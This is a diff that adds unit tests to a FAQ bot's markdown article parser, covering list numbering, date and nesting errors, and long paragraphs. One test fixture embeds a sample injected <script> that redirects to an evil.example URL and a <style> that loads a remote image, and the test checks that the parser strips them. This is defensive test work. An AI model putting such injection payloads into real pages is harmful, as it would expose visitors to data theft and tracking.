@@ -11,6 +11,7 @@ from faqbot.answering.excerpt import SplitSection, laid_out, split_section, whol
 from faqbot.content.articles import parse_article
 from faqbot.content.documents import article_from_dict, article_to_dict, passage_doc
 from faqbot.content.passages import make_passages
+from faqbot.errors import DataError
 
 RETURNS = """---
 title: Shop
@@ -114,3 +115,51 @@ def test_layout_survives_the_index_records_and_a_whole_passage_shows_it(tmp_path
     passage = next(p for p in make_passages(article) if "Pack it in the box." in p.sentences)
     text, html = whole_passage(passage_doc(passage), split_section(article.sections[0]))
     assert "\n3. Pack it in the box." in "\n" + text and '<ol start="3">' in (html or "")
+
+
+def test_what_a_page_never_shows_is_neither_answered_nor_embedded_and_blocks_stay_out_of_sentences(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "a.md"
+    path.write_text(
+        "---\ntitle: A\n---\n\n## Hours\n\n"
+        "We open at nine <script>document.location='https://evil.example/?c='</script> on weekdays. "
+        "<style>.x{background:url(https://evil.example/t.png)}</style>Closed on **Sundays**.\n\n"
+        "2. Text <li>sneaky item. Another</li> sentence here.\n"
+    )
+    section = parse_article(path).sections[0]
+    assert "evil" not in " ".join(section.paragraphs) and "document" not in " ".join(section.paragraphs)
+    text, html = shown(split_section(section), 0, 4)
+    assert "evil" not in text and "evil" not in (html or "")
+    # An inline <li> would close the item it sits in: a sentence's HTML holds inline markup only.
+    assert (html or "").count("<li") == 1 and "sneaky item" in (html or "")
+
+
+def test_an_ordered_list_shows_the_numbers_of_its_items_when_some_have_no_text(tmp_path: Path) -> None:
+    path = tmp_path / "a.md"
+    path.write_text("---\ntitle: A\n---\n\n## Steps\n\n1. Download it.\n2. ```\n   code only\n   ```\n3. Restart it.\n")
+    text, html = shown(split_section(parse_article(path).sections[0]), 0, 2)
+    assert text.splitlines() == ["1. Download it.", "3. Restart it."]
+    assert html == '<ol><li>Download it.</li><li value="3">Restart it.</li></ol>'
+
+
+def test_a_bad_date_or_lists_nested_past_the_parsers_limit_are_a_file_line_message(tmp_path: Path) -> None:
+    path = tmp_path / "a.md"
+    path.write_text("---\ntitle: A\ndate: 2024-02-30\n---\n\nHello there.\n")
+    with pytest.raises(DataError, match="cannot be read") as error:
+        parse_article(path)
+    assert "a.md:3" in str(error.value)
+    # markdown-it stops reading at 20 levels: the article's later sections would vanish silently.
+    path.write_text("---\ntitle: A\n---\n\nIntro.\n\n- - - - - - - - - - x\n\nAfter.\n\n## Hours\n\nNine.\n")
+    with pytest.raises(DataError, match="nested too deeply") as error:
+        parse_article(path)
+    assert "a.md:7" in str(error.value)
+    path.write_text("---\ntitle: A\n---\n\nIntro.\n\n- - - - - - - - - x\n\nAfter.\n")  # 9 deep: read
+    assert parse_article(path).sections[0].paragraphs == ("Intro.", "x", "After.")
+
+
+def test_a_very_long_marked_up_paragraph_is_shown_as_plain_sentences(tmp_path: Path) -> None:
+    path = tmp_path / "a.md"
+    path.write_text("---\ntitle: A\n---\n\n" + " ".join(f"Sentence *{n}* here." for n in range(2_000)) + "\n")
+    section = parse_article(path).sections[0]
+    assert section.blocks == () and len(split_section(section).sentences) == 2_000
